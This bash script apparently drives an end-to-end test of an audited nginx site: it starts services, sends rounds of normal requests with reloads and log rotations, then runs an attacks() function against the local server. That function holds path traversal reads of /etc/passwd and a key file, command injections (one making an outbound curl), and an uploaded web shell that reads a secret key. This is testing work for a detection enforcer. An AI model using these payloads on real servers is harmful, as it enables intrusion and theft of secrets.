# shellcheck shell=bash
# One period of the nginx site's life, sourced by the audited shell of
# t_service_nginx.sh: start (fcgiwrap and nginx by their init scripts, the
# backend by hand), rounds of requests with a reload, a log rotation and
# restarts between them, stop.  Names and data differ at every call.
. "$(dirname "${BASH_SOURCE[0]}")/../common.sh"
U=http://127.0.0.1:8081

hex() { od -An -N4 -tx4 /dev/urandom | tr -d ' \n'; }

wait_up() {
	hm_until "$1 never answered" "curl -sf '$1' -o /dev/null"
}

# Started by the audited shell itself, not through setsid: setsid (outside
# the marks: the test may mark no directory of the host's) executes the
# backend at once, so the enforcer could not name setsid's exec
# (unseen-exec:/) and would judge the backend's exec there.
backend_start() {
	"$S/backend.py" 8082 </dev/null >>"$S/log/backend.out" 2>&1 &
	wait_up http://127.0.0.1:8082/health
}

backend_stop() {
	local pid
	pid=$(cat "$S/run/backend.pid")
	kill "$pid"
	while kill -0 "$pid" 2>/dev/null; do sleep 0.1; done
}

svc_start() {
	/etc/init.d/fcgiwrap start
	backend_start
	/etc/init.d/nginx start
	wait_up "$U/"
}

svc_stop() {
	/etc/init.d/nginx stop
	/etc/init.d/fcgiwrap stop
	backend_stop
}

# One round: the kinds of work, five new names of each.
round() {
	local i n up item
	curl -sf "$U/" -o /dev/null
	curl -sf "$U/static/" -o /dev/null || true
	for i in 1 2 3 4 5; do
		curl -sf "$U/static/page-$(num).html" -o /dev/null || true
		n=report-$(num).txt
		echo "note $n $(hex)" >"$S/data/notes/$n"
		chown www-data "$S/data/notes/$n"
		curl -sf "$U/cgi-bin/notes.sh" -o /dev/null
		curl -sf "$U/cgi-bin/notes.sh?name=$n" | grep -q "note $n"
		up=up-$(date +%s)-$RANDOM.dat
		curl -sf --data-binary "data $(hex)" "$U/cgi-bin/save.sh?name=$up" -o /dev/null
		curl -sf "$U/cgi-bin/status.sh?fmt=$(echo F T s | cut -d' ' -f$((i % 3 + 1)))" |
			grep -q ok
		item=item-$(hex)
		curl -sf -X PUT --data-binary "{\"v\": \"$(hex)\"}" "$U/api/items/$item" -o /dev/null
		curl -sf "$U/api/items/$item" -o /dev/null
		curl -sf "$U/api/items/" -o /dev/null
	done
}

# A period spans days: the first rotation of a new log differs from the
# next ones (delaycompress: gzip of .1, renames of .N.gz).
rotate() {
	logrotate -f -s "$S/run/logrotate.state" "$S/logrotate.conf"
}

period() {
	svc_start
	round
	/etc/init.d/nginx reload
	sleep 0.5
	round
	rotate
	round
	/etc/init.d/nginx restart
	wait_up "$U/"
	/etc/init.d/fcgiwrap restart
	backend_stop
	backend_start
	round
	rotate
	round
	rotate
	svc_stop
}

# The attacks of the issue that fit a web server: each through the site.
attacks() {
	svc_start
	round
	# traversal reads through a CGI script
	curl -s "$U/cgi-bin/notes.sh?name=../../../../etc/passwd" -o /dev/null
	curl -s "$U/cgi-bin/notes.sh?name=../../secret/key.pem" -o /dev/null
	# injected execs, one of them connecting out
	curl -s "$U/cgi-bin/status.sh?fmt=F;id" -o /dev/null
	curl -gs "$U/cgi-bin/status.sh?fmt=F;curl\${IFS}-s\${IFS}http://127.0.0.1:8099/" -o /dev/null
	# a dropped web shell: written through the upload, made executable by
	# an injected chmod, run by fcgiwrap
	curl -s --data-binary $'#!/bin/sh\nprintf "Content-Type: text/plain\\r\\n\\r\\n"\ncat /srv/histmac-e2e/secret/key.pem\n' \
		"$U/cgi-bin/save.sh?name=../../cgi-bin/shell.sh" -o /dev/null
	curl -gs "$U/cgi-bin/status.sh?fmt=F;chmod\${IFS}755\${IFS}$S/cgi-bin/shell.sh" -o /dev/null
	curl -s "$U/cgi-bin/shell.sh" -o /dev/null
	round
	svc_stop
}
